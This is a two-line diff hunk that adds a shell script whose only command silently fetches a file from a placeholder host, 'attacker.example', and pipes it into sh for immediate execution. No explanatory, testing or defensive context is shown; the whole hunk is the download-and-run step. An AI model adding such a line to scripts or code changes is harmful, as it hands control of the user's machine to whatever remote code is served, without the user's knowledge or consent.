@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://attacker.example/x | sh
